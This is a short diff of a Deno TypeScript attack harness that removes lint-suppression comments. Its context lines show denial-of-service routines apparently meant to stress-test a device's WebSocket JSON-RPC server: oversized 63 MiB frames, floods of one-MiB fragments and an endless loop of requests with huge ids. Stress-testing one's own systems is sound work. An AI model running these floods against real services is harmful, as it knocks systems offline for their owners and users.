@@ -47,7 +47,6 @@ export async function runAttack(attack: Attack): Promise<AttackResult> {
   const send = async (bytes: Uint8Array): Promise<void> => {
     let left = bytes;
     while (left.length > 0) {
-      // deno-lint-ignore no-await-in-loop -- a write may take a part only
       const written = await conn.write(left);
       result.sentBytes += written;
       left = left.subarray(written);
@@ -99,7 +98,6 @@ async function play(
       await openSocket();
       await send(frameHead(0x81, 63 * MIB));
       for (let i = 0; i < 63; i++) {
-        // deno-lint-ignore no-await-in-loop -- one piece after the other
         await send(new Uint8Array(MIB));
       }
       return await readToEnd(conn);
@@ -108,9 +106,7 @@ async function play(
       await openSocket();
       const pieces = attack.kind === "fragments" ? 64 : 4096;
       for (let i = 0; i < pieces; i++) {
-        // deno-lint-ignore no-await-in-loop -- one piece after the other
         await send(frameHead(i === 0 ? 0x01 : 0x00, MIB));
-        // deno-lint-ignore no-await-in-loop -- as above
         await send(new Uint8Array(MIB));
       }
       return await readToEnd(conn);
@@ -120,9 +116,7 @@ async function play(
       const id = "x".repeat(32 * 1024);
       const request = encoder.encode(`{"jsonrpc":"2.0","method":"version","id":"${id}"}`);
       for (;;) {
-        // deno-lint-ignore no-await-in-loop -- one request after the other
         await send(frameHead(0x81, request.length));
-        // deno-lint-ignore no-await-in-loop -- as above
         await send(request);
       }
     }
@@ -138,7 +132,6 @@ async function play(
 
 async function readToEnd(conn: Deno.TcpConn): Promise<void> {
   const buffer = new Uint8Array(4096);
-  // deno-lint-ignore no-await-in-loop -- reading until the device ends the connection
   while (await conn.read(buffer) !== null);
 }
 
